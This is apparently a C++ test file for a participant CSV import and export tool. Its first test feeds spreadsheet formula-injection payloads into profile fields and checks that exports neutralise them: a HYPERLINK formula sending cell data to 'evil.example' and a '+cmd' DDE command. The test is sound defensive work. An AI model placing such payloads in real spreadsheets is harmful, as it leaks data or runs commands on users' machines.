// Importing participants from CSV: an export reads back in, every refused row is reported with
// its line, column and reason, a second import adds no one twice, and a running hub is respected.
#include <doctest/doctest.h>

#include <iostream>
#include <map>
#include <set>
#include <sstream>

#include "app/hub/hub_command_line.hpp"
#include "storage/csv.hpp"
#include "storage/csv_export.hpp"
#include "storage/participant_import.hpp"
#include "tests/storage/storage_fixture.hpp"

using namespace crossmatch;

namespace {

constexpr std::int64_t kImportedAt = 1'785'000'000'000;

// A fresh event with nobody registered yet.
std::unique_ptr<storage::EventStore> empty_event(const std::filesystem::path& file) {
  auto store = test::open_store(file);
  test::EventScript script(70);
  REQUIRE(
      store
          ->append({script.must(test::organiser(), core::CreateEvent{.name = "Import day",
                                                                     .time_zone = "Europe/Berlin",
                                                                     .join_code = "IMPORT-1"})})
          .ok());
  return store;
}

// The rows of a participants CSV without the columns the hub assigns (id, status).
std::vector<std::vector<std::string>> profile_rows(const std::string& csv) {
  auto records = storage::parse_csv(csv);
  REQUIRE(records.ok());
  std::vector<std::vector<std::string>> rows;
  for (std::size_t i = 1; i < records->size(); ++i) {
    auto fields = (*records)[i].fields;
    fields.erase(fields.begin(), fields.begin() + 2);
    rows.push_back(fields);
  }
  return rows;
}

// Runs a hub command line in this process, capturing what it prints.
struct CommandRun {
  int status = 0;
  std::string out, err;
};
CommandRun run_command(std::vector<std::string> args) {
  args.insert(args.begin(), "crossmatch-hub");
  args.push_back("--assets");
  args.push_back(test::source_assets().string());
  std::vector<const char*> argv;
  for (const auto& a : args) argv.push_back(a.c_str());
  std::ostringstream out, err;
  auto* old_out = std::cout.rdbuf(out.rdbuf());
  auto* old_err = std::cerr.rdbuf(err.rdbuf());
  CommandRun run;
  run.status = hub::run_command_line(static_cast<int>(argv.size()), argv.data());
  std::cout.rdbuf(old_out);
  std::cerr.rdbuf(old_err);
  run.out = out.str();
  run.err = err.str();
  return run;
}

}  // namespace

TEST_CASE("cells a spreadsheet would run as formulas are exported as text; the data keeps them") {
  test::TempDir dir;
  test::EventScript script(72);
  auto source = test::open_store(dir / "source.db");
  test::append_all(*source, script.set_up(3), 30);
  const std::vector<std::string> hostile = {"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
                                            "+cmd|' /C calc'!A0",
                                            "-2+3",
                                            "@SUM(A1:A9)",
                                            "'=already quoted",
                                            "-(1)",
                                            "'plain apostrophe"};
  std::vector<core::ParticipantId> people;
  for (std::size_t i = 0; i + 1 < hostile.size(); i += 2) {
    core::Profile p = script.fresh_profile();
    p.display_name = hostile[i];
    p.organisation = hostile[i + 1];
    const auto r = script.must(test::newcomer(), core::Register{.profile = p});
    test::append_all(*source, {r});
    people.push_back(std::get<core::Register>(r.payload).participant);
  }
  // The database keeps the exact text.
  auto loaded = source->load();
  REQUIRE(loaded.ok());
  for (std::size_t i = 0; i < people.size(); ++i) {
    const auto& p = loaded->state.participants.at(people[i]).profile;
    CHECK(p.display_name == hostile[2 * i]);
    CHECK(p.organisation == hostile[2 * i + 1]);
  }

  const std::string exported = storage::participants_csv(loaded->state);
  auto records = storage::parse_csv(exported);
  REQUIRE(records.ok());
  std::map<std::string, std::pair<std::string, std::string>> cells;  // id -> name, organisation
  for (const auto& r : *records) cells[r.fields[0]] = {r.fields[2], r.fields[3]};
  const auto cell = [&](std::size_t person, bool organisation) {
    const auto& c = cells.at(std::to_string(people[person]));
    return organisation ? c.second : c.first;
  };
  CHECK(cell(0, false) == "'" + hostile[0]);
  CHECK(cell(0, true) == "'" + hostile[1]);
  CHECK(cell(1, false) == "'" + hostile[2]);
  CHECK(cell(1, true) == "'" + hostile[3]);
  CHECK(cell(2, false) == "''=already quoted");
  CHECK(cell(2, true) == "'-(1)");
  // No cell of any export starts with a character a spreadsheet reads as a formula.
  for (const std::string& csv :
       {exported, storage::meetings_csv(loaded->state), storage::teams_csv(loaded->state)}) {
    auto parsed = storage::parse_csv(csv);
    REQUIRE(parsed.ok());
    for (const auto& r : *parsed)
      for (const auto& f : r.fields)
        CHECK_MESSAGE((f.empty() || std::string_view("=+-@\t\r").find(f[0]) == std::string::npos),
                      f);
  }
  // Tabs and carriage returns cannot be in a profile's text, but a cell starting with one is
  // neutralised too.
  CHECK(storage::csv_cell("\tx") == "'\tx");
  CHECK(storage::csv_cell("\r=1") == "'\r=1");
  CHECK(storage::csv_cell_value("'\tx") == "\tx");
  CHECK(storage::csv_cell("'plain apostrophe") == "'plain apostrophe");
  CHECK(storage::csv_cell_value("'plain apostrophe") == "'plain apostrophe");

  // Imported back, the people have their exact text again.
  auto target = empty_event(dir / "target.db");
  auto result = storage::import_participants(*target, test::taxonomy(), exported, kImportedAt);
  REQUIRE(result.ok());
  auto imported = target->load();
  REQUIRE(imported.ok());
  std::set<std::string> names, organisations;
  for (const auto& [id, p] : imported->state.participants) {
    names.insert(p.profile.display_name);
    organisations.insert(p.profile.organisation);
  }
  for (std::size_t i = 0; i + 1 < hostile.size(); i += 2) {
    CHECK(names.count(hostile[i]) == 1);
    CHECK(organisations.count(hostile[i + 1]) == 1);
  }
}

TEST_CASE("an export of participants imports into another event as the same people") {
  test::TempDir dir;
  test::EventScript script(71);
  auto source = test::open_store(dir / "source.db");
  test::append_all(*source, script.set_up(25), 30);
  test::append_all(*source, script.random_in_order(200), 20);
  const auto stats = core::statistics(script.state());
  REQUIRE(stats.withdrawn + stats.erased > 0);
  const std::string exported = storage::participants_csv(script.state());

  auto target = empty_event(dir / "target.db");
  auto result = storage::import_participants(*target, test::taxonomy(), exported, kImportedAt);
  REQUIRE(result.ok());
  CHECK(result->rows == script.state().participants.size());
  CHECK(result->applied.size() == static_cast<std::size_t>(stats.participants));
  // Withdrawn and erased people are not imported, and each is reported.
  CHECK(result->refused.size() == static_cast<std::size_t>(stats.withdrawn + stats.erased));
  for (const auto& r : result->refused) {
    CHECK(r.field == "status");
    CHECK(r.line >= 2);
  }
  // Imported operations are the organiser's registrations, sequenced like any other.
  CHECK(result->applied.front().sequence == 2);
  CHECK(result->applied.front().actor.role == core::Role::Organiser);
  CHECK(target->last_sequence() == 1 + result->applied.size());

  auto loaded = target->load();
  REQUIRE(loaded.ok());
  std::vector<std::vector<std::string>> active_rows;
  core::EventState active = script.state();
  erase_if(active.participants, [](const auto& p) { return !p.second.active(); });
  CHECK(profile_rows(storage::participants_csv(loaded->state)) ==
        profile_rows(storage::participants_csv(active)));

  // The same file again: every row was imported before, no one is added.
  auto again =
      storage::import_participants(*target, test::taxonomy(), exported, kImportedAt + 1000);
  REQUIRE(again.ok());
  CHECK(again->applied.empty());
  std::size_t duplicates = 0;
  for (const auto& r : again->refused) duplicates += r.code == "duplicate";
  CHECK(duplicates == static_cast<std::size_t>(stats.participants));
  CHECK(target->load()->state.participants.size() == static_cast<std::size_t>(stats.participants));
}

TEST_CASE(
    "each refused row is reported with its line, column and reason; the valid ones are imported") {
  test::TempDir dir;
  auto store = empty_event(dir / "event.db");
  const std::string answers = "3;3;3;3;3;3;3;3;3;3;3;3;3;3;3;3;3;3;3;3";
  const auto n_questions = test::taxonomy().questions().size();
  std::string good_answers;
  for (std::size_t i = 0; i < n_questions; ++i) good_answers += (i ? ";" : "") + std::string("4");
  const std::string header =
      "display_name,organisation,job_title,city,sector,email,languages,answers,type\r\n";
  const auto city = test::taxonomy().partner_cities().front()->id;
  const auto sector = test::taxonomy().sectors().front().id;
  const auto row = [&](const std::string& name, const std::string& email,
                       const std::string& extra = "") {
    return name + ",Studio,\"Designer, lead\"," + city + "," + sector + "," + email + ",en;pt," +
           good_answers + "," + extra + "\r\n";
  };
  std::string csv = header;
  csv += row("Ana Lima", "ana@example.org");  // line 2: imported
  csv += row("Bad Mail", "not-an-address");   // line 3: email
  csv += "\"Two\nLines\",Studio,x," + city + "," + sector + ",two@example.org,en," + good_answers +
         ",\r\n";                              // lines 4-5
  csv += row("Ana Again", "ANA@example.org");  // line 6: e-mail taken
  csv += "Short,row\r\n";                      // line 7: field count
  csv += row("Lost City", "lost@example.org")
             .replace(row("Lost City", "lost@example.org").find(city), city.size(),
                      "atlantis");                            // line 8
  csv += row("Wrong Type", "type@example.org", "spaceship");  // line 9: type
  csv += "Few Answers,Studio,," + city + "," + sector + ",few@example.org,en," +
         answers.substr(0, 5) + ",\r\n";                     // line 10
  csv += row("Ben Sousa", "ben@example.org", "researcher");  // line 11: imported

  auto result = storage::import_participants(*store, test::taxonomy(), csv, kImportedAt);
  REQUIRE(result.ok());
  CHECK(result->rows == 9);
  REQUIRE(result->applied.size() == 2);
  std::map<std::size_t, storage::RefusedRow> refused;
  for (const auto& r : result->refused) refused[r.line] = r;
  REQUIRE(refused.size() == 7);
  CHECK(refused.at(3).field == "email");
  CHECK(refused.at(3).message.find("not-an-address") != std::string::npos);
  CHECK(refused.at(4).field == "display_name");
  CHECK(refused.at(4).code == "control_character");
  CHECK(refused.at(6).field == "email");
  CHECK(refused.at(6).code == "email_taken");
  CHECK(refused.at(7).code == "field_count");
  CHECK(refused.at(8).field == "city");
  CHECK(refused.at(9).field == "type");
  CHECK(refused.at(10).field == "answers");
  CHECK(refused.count(2) == 0);
  CHECK(refused.count(11) == 0);
  const auto state = store->load()->state;
  REQUIRE(state.participants.size() == 2);
  const auto& ana = state.participants.begin()->second.profile;
  CHECK(ana.job_title == "Designer, lead");
  CHECK(ana.country == test::taxonomy().city(city)->country);  // taken from the city
  CHECK(ana.languages == std::vector<std::string>{"en", "pt"});
  CHECK(std::next(state.participants.begin())->second.profile.type ==
        core::ParticipantType::Researcher);
}

TEST_CASE("files the import refuses as a whole") {
  test::TempDir dir;
  auto store = empty_event(dir / "event.db");
  const auto refused = [&](const std::string& csv) {
    auto r = storage::import_participants(*store, test::taxonomy(), csv, kImportedAt);
    REQUIRE_FALSE(r.ok());
    return r.error();
  };
  CHECK(refused("").code == "empty");
  CHECK(refused("display_name,organisation,favourite_colour\r\n").code == "unknown_column");
  CHECK(refused("display_name,organisation,city,sector,email,languages\r\n").code ==
        "missing_column");
  CHECK(refused("display_name,display_name\r\n").code == "duplicate_column");
  CHECK(refused("display_name,\"organisation\r\n").code == "invalid_csv");
  CHECK(store->load()->state.participants.empty());

  auto no_event = test::open_store(dir / "no-event.db");
  auto r =
      storage::import_participants(*no_event, test::taxonomy(), "display_name\r\n", kImportedAt);
  REQUIRE_FALSE(r.ok());
  CHECK(r.error().code == "no_event");
}

TEST_CASE("the import, export and backup commands") {
  test::TempDir dir;
  test::EventScript script(72);
  {
    auto store = test::open_store(dir / "event.db");
    test::append_all(*store, script.set_up(6), 30);
  }
  const std::string db = (dir / "event.db").string();
  auto exported = run_command(
      {"export", "--db", db, "--what", "participants", "--out", (dir / "people.csv").string()});
  CHECK(exported.status == 0);
  CHECK(exported.err.find("people.csv") != std::string::npos);
  CHECK(test::read_bytes(dir / "people.csv") == storage::participants_csv(script.state()));
  // For spreadsheets: the same with a UTF-8 byte-order mark first; not for a calendar.
  auto sheet = run_command({"export", "--db", db, "--what", "participants", "--spreadsheet",
                            "--out", (dir / "people-sheet.csv").string()});
  CHECK(sheet.status == 0);
  CHECK(test::read_bytes(dir / "people-sheet.csv") ==
        "\xEF\xBB\xBF" + storage::participants_csv(script.state()));
  auto sheet_calendar = run_command({"export", "--db", db, "--what", "calendar", "--spreadsheet"});
  CHECK(sheet_calendar.status == 2);
  CHECK(sheet_calendar.err.find("--spreadsheet goes with a CSV export") != std::string::npos);

  // Into a second event, with one bad row added.
  { auto target = empty_event(dir / "target.db"); }
  std::string csv = test::read_bytes(dir / "people.csv");
  csv +=
      "99,active,Bad "
      "Row,Org,,company,micro,nowhere,PT,architecture,bad@example.org,en,,,,,3,yes,no\r\n";
  test::write_bytes(dir / "with-bad-row.csv", csv);
  const std::string target = (dir / "target.db").string();
  auto imported =
      run_command({"import", "--db", target, "--csv", (dir / "with-bad-row.csv").string()});
  CHECK(imported.status == 1);  // some rows refused
  CHECK(imported.out.find("line 8, city: ") != std::string::npos);
  CHECK(imported.err.find("imported 6 of 7 rows") != std::string::npos);

  // The calendar, for everyone and for one person; to standard output.
  auto calendar = run_command({"export", "--db", db, "--what", "calendar"});
  CHECK(calendar.status == 0);
  CHECK(calendar.out.rfind("BEGIN:VCALENDAR\r\n", 0) == 0);
  const auto someone = std::to_string(script.state().participants.begin()->first);
  CHECK(
      run_command({"export", "--db", db, "--what", "calendar", "--participant", someone}).status ==
      0);
  auto wrong = run_command({"export", "--db", db, "--what", "people"});
  CHECK(wrong.status == 2);
  CHECK(wrong.err.find("--what is 'people'") != std::string::npos);
  CHECK(run_command({"export", "--db", db, "--what", "teams", "--participant", "1"}).status == 2);

  // While a hub holds the database: export and backup work, import is refused.
  auto hub = test::open_store(dir / "event.db", false);
  auto teams = run_command({"export", "--db", db, "--what", "meetings"});
  CHECK(teams.status == 0);
  auto locked = run_command({"import", "--db", db, "--csv", (dir / "people.csv").string()});
  CHECK(locked.status == 2);
  CHECK(locked.err.find("stop it first") != std::string::npos);
  auto backup = run_command({"backup", "--db", db, "--out", (dir / "copy.db").string()});
  CHECK(backup.status == 0);
  CHECK(test::open_store(dir / "copy.db", false)->load()->state == script.state());
  auto missing =
      run_command({"backup", "--db", (dir / "none.db").string(), "--out", (dir / "x.db").string()});
  CHECK(missing.status == 2);
  CHECK(missing.err.find("none.db") != std::string::npos);
}
